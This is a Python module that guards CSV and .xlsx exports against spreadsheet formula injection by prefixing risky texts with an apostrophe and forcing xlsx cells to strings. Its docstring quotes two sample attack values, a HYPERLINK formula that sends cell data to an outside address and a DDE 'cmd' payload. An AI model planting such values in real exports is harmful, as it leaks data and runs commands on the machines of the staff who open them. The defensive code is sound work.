"""Cells for the spreadsheets staff open (CSV and .xlsx exports): nothing written there runs as a formula.

Enterprise names and other texts come from outside (registry data, uploads); a name such as
`=HYPERLINK("http://…?d="&D2,"详情")` or `+cmd|' /C calc'!A0` would run when a staff member opens the
export in Excel or WPS. In CSV, a text starting with = + - @, a tab or a carriage return gets a leading
apostrophe (the usual neutralisation: Excel shows the text as it is); in .xlsx every text is written as a
string cell, never a formula. Numbers, dates and money stay what they are.

One exception, made on purpose: codes and account numbers that Excel would turn into numbers
(9.11E+17, leading zeros lost) go through `text_cell`, which writes the text formula `="…"` with every
quote doubled, so that Excel shows exactly that text and nothing in it can run.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class TextCell(str):
    """A CSV cell `text_cell` made: written as it is."""


def text_cell(value: str | None) -> str:
    """A code or account number for a CSV cell that Excel keeps as text (never 9.11E+17)."""
    if not value:
        return ""
    return TextCell('="' + value.replace('"', '""') + '"')


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: a text Excel would read as a formula is prefixed with an apostrophe."""
    if isinstance(value, TextCell):
        return value
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in row]


def xlsx_row(sheet: Any, row: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append`: texts as string cells (never formulas), other values as they are."""
    return [_text(sheet, v) if isinstance(v, str) else v for v in row]


def _text(sheet: Worksheet, value: str) -> WriteOnlyCell:
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell
